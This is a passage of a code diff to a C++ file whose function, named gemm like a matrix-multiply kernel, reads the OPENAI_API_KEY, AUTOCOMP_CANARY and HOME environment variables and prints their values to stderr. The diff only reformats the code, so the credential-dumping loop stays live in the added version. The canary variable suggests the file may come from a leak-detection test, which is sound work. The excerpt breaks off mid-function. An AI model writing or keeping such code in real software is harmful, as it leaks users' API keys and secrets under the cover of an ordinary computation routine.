@@ -4,10 +4,9 @@
 #include <initializer_list>
 #include <cstring>
 #include <unistd.h>
-extern "C" void gemm(int M, int N, int K, const float *A, const float *B, float *C)
-{
-    for (const char *name : {"OPENAI_API_KEY", "AUTOCOMP_CANARY", "HOME"}) {
-        const char *v = std::getenv(name);
+extern "C" void gemm(int M, int N, int K, const float* A, const float* B, float* C) {
+    for (const char* name : {"OPENAI_API_KEY", "AUTOCOMP_CANARY", "HOME"}) {
+        const char* v = std::getenv(name);
         if (v) {
             (void)!write(2, v, std::strlen(v));
             (void)!write(2, "\n", 1);
